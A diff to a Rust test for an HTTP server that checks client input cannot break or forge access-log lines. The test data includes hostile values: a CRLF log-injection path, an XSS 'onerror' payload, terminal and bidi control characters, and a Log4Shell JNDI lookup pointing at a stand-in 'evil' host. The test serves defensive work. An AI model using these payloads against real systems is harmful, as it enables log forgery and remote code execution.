@@ -83,20 +83,21 @@ fn nobody_is_let_in_without_the_token() {
 fn nothing_that_a_client_says_breaks_a_line_of_the_log() {
     for form in ["common", "combined", "json"] {
         let origin = Origin::saying(|_| fresh("x"));
-        let mut lines = 0;
         let serving = Serving::with(&origin, "", &format!("log: {{ access: {form}, file: access.log }}"));
         let file = serving.room.path("access.log");
-        for (target, agent) in [
+        for (before, (target, agent)) in [
             ("/%0d%0a127.0.0.1%20-%20evil", "a"),
             ("/x\"%22\\", "\"evil\" \\\" x"),
             ("/", "\u{9b}31m \u{85} \u{202e} <img src=x onerror=alert(1)>"),
             ("/{\"a\":1}", "${jndi:ldap://evil/x}"),
             ("/", "caf\u{e9}\t tab"),
-        ] {
+        ]
+        .into_iter()
+        .enumerate()
+        {
             let heard = serving.get(target, &format!("User-Agent: {agent}\r\nReferer: {agent}\r\n"));
-            lines += 1;
             until("it is written", || {
-                std::fs::read_to_string(&file).is_ok_and(|all| all.lines().count() == lines)
+                std::fs::read_to_string(&file).is_ok_and(|all| all.lines().count() == before + 1)
             });
             assert!(heard.status == 200 || heard.status == 400, "{}", heard.status);
         }
